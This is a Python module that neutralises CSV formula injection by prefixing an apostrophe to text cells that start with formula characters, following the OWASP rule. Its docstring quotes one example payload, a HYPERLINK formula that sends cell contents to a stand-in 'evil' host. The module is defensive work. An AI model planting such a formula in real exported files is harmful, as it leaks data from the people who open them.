"""CSV cells that a spreadsheet will not run: the OWASP rule against CSV (formula) injection.

A cell that starts with = + - @ (or a tab or carriage return, which some spreadsheets skip before
parsing) is read by Excel, LibreOffice and Google Sheets as a formula, so a customer id or name such as
`=HYPERLINK("http://evil/?"&A1)` in an exported file leaks data or runs commands on the marketer's
machine. Such text cells get a leading apostrophe, which spreadsheets show as text; numbers are left
alone (a negative amount is a number, not text).
"""
from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, or `'value` when it is text a spreadsheet would evaluate as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]
